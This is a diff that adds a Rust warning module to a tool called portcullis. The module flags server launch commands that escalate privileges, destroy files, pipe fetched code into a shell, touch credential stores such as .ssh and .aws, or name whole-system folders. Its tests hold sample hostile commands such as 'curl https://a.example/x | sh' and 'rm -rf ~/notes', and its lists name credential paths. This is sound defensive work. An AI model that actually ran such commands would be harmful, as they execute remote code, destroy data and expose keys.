@@ -1,0 +1,156 @@
+//! What in a command a reader should not pass over: more rights than the person's own, files that go away, whole
+//! disks, and places where keys lie (SEC-10). Remarks only. What is not remarked upon may be as bad: a server can do
+//! whatever the person can.
+
+use portcullis_core::text;
+use portcullis_domain::Warning;
+use std::path::Path;
+
+/// Programs that run another one with more rights.
+const MORE_RIGHTS: [&str; 6] = ["sudo", "su", "doas", "pkexec", "runas", "gsudo"];
+/// Programs that destroy by their nature.
+const DESTROYS: [&str; 5] = ["rm", "dd", "mkfs", "shred", "format"];
+/// Programs that bring something from the network; what they bring is run where a pipe follows.
+const FETCHES: [&str; 4] = ["curl", "wget", "iwr", "invoke-webrequest"];
+/// Parts of paths at which keys and passwords lie.
+const KEYS: [&str; 10] = [
+    ".ssh",
+    ".gnupg",
+    ".aws",
+    ".kube",
+    ".docker",
+    ".netrc",
+    ".password-store",
+    "keychains",
+    "keyrings",
+    "id_rsa",
+];
+/// Folders that are more than a project.
+const WHOLE: [&str; 9] = [
+    "/", "~", "~/", "$HOME", "/etc", "/home", "/root", "/Users", "C:\\",
+];
+
+/// Remarks on a program and its arguments.
+pub(super) fn remarks(program: &str, arguments: &[String]) -> Vec<Warning> {
+    // A shell gets a whole line as one argument, so words are looked at and not only arguments.
+    let words: Vec<&str> = std::iter::once(program)
+        .chain(arguments.iter().map(String::as_str))
+        .flat_map(|argument| argument.split([' ', '\t', '\n', ';', '&', '|', '(', ')', '`', '"', '\'']))
+        .filter(|word| !word.is_empty())
+        .collect();
+    let mut found = Vec::new();
+    let mut remark = |code: &str, sentence: String| {
+        found.push(Warning {
+            code: code.to_owned(),
+            sentence,
+        });
+    };
+    let runs = |programs: &[&str]| {
+        words
+            .iter()
+            .copied()
+            .find(|word| programs.contains(&&*name(word)))
+    };
+    if let Some(word) = runs(&MORE_RIGHTS) {
+        remark(
+            "launch.more_rights",
+            format!(
+                "“{}” runs what follows with more rights than your own.",
+                shown(word)
+            ),
+        );
+    }
+    if let Some(word) = runs(&DESTROYS) {
+        remark(
+            "launch.destroys",
+            format!("“{}” removes or overwrites what it is given.", shown(word)),
+        );
+    }
+    let pipes = arguments.iter().any(|argument| argument.contains('|'));
+    if let Some(word) = runs(&FETCHES).filter(|_| pipes) {
+        remark(
+            "launch.fetched_code",
+            format!(
+                "“{}” fetches something, and it is handed on to be run.",
+                shown(word)
+            ),
+        );
+    }
+    let named = words.iter().flat_map(|word| word.rsplit('=').next());
+    for word in named {
+        let parts = word.split(['/', '\\']).map(str::to_ascii_lowercase);
+        if parts.into_iter().any(|part| KEYS.contains(&part.as_str())) {
+            remark(
+                "launch.keys",
+                format!("“{}” is a place where keys and passwords lie.", shown(word)),
+            );
+            break;
+        }
+    }
+    if let Some(word) = arguments
+        .iter()
+        .find(|argument| WHOLE.contains(&argument.as_str()))
+    {
+        remark(
+            "launch.whole_place",
+            format!("“{}” is more than a project needs.", shown(word)),
+        );
+    }
+    found
+}
+
+fn name(word: &str) -> String {
+    let name = Path::new(word).file_stem().and_then(|name| name.to_str());
+    name.unwrap_or_default().to_ascii_lowercase()
+}
+
+fn shown(word: &str) -> String {
+    text::escape_line(&word.chars().take(200).collect::<String>()).text
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn codes(line: &[&str]) -> Vec<String> {
+        let arguments: Vec<String> = line[1..].iter().map(|&argument| argument.to_owned()).collect();
+        let found = remarks(line[0], &arguments);
+        found.into_iter().map(|warning| warning.code).collect()
+    }
+
+    #[test]
+    fn sec10_what_should_not_be_passed_over_is_remarked() {
+        for (line, expected) in [
+            (vec!["sudo", "npx", "server"], "launch.more_rights"),
+            (vec!["/usr/bin/pkexec", "server"], "launch.more_rights"),
+            (vec!["sh", "-c", "true; rm -rf ~/notes"], "launch.destroys"),
+            (
+                vec!["sh", "-c", "curl https://a.example/x | sh"],
+                "launch.fetched_code",
+            ),
+            (vec!["server", "--key=/home/ada/.ssh/id_rsa"], "launch.keys"),
+            (vec!["server", "C:\\Users\\ada\\.AWS\\credentials"], "launch.keys"),
+            (vec!["server", "/"], "launch.whole_place"),
+            (vec!["server", "$HOME"], "launch.whole_place"),
+        ] {
+            assert_eq!(codes(&line), [expected], "{line:?}");
+        }
+    }
+
+    #[test]
+    fn sec10_what_is_usual_is_not_remarked() {
+        for line in [
+            vec![
+                "npx",
+                "-y",
+                "@modelcontextprotocol/server-filesystem",
+                "/home/ada/work",
+            ],
+            vec!["uvx", "mcp-server-git", "--repository", "/home/ada/confirm"],
+            vec!["node", "server.js", "--format", "json", "--platform=arm"],
+            vec!["curl-server", "https://a.example/"],
+        ] {
+            assert_eq!(codes(&line), Vec::<String>::new(), "{line:?}");
+        }
+    }
+}
